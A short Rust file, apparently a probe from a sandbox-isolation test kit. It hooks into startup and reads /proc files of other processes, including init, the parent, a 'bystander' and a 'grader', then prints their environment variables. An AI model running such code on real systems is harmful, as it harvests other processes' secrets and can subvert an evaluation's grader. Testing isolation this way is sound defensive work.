//! What /proc shows of others.

use crate::kit::{bystander, grader, steal};

fn look() {
    let parent = unsafe { libc::getppid() };
    for pid in [1, parent, bystander(), grader()] {
        for file in ["environ", "maps", "stack", "syscall", "auxv", "exe", "root", "cwd"] {
            steal(&format!("/proc/{pid}/{file}"));
        }
        let secrets = format!("/proc/{pid}/environ");
        if let Ok(bytes) = std::fs::read(&secrets) {
            crate::kit::say(&String::from_utf8_lossy(&bytes));
        }
    }
}

before_main!(look);
